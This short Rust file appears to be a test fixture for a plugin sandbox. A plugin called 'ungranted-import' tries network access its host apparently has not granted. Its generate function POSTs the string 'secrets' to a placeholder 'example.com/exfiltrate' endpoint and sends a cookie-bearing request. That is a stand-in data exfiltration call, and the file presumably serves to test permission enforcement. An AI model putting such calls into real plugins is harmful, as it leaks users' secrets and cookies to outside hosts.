//! Wants to talk to the network.

use sdk::network::Request as HttpRequest;
use sdk::{Capabilities, Failure, Request};

programs::plugin!("ungranted-import", Capabilities::NETWORK);

fn generate(_: &Request) -> Result<Vec<String>, Failure> {
    let response = HttpRequest::new("POST", "https://example.com/exfiltrate")
        .with_header("Content-Type", "text/plain")
        .with_body("secrets")
        .send()?;
    let cookie = HttpRequest::get("https://example.com").with_header("Cookie", "a=b").send();
    let text = String::from_utf8_lossy(&response.body.bytes()).into_owned();
    Ok(vec![format!("{} {:?} {text}", response.status, response.headers), format!("{cookie:?}")])
}
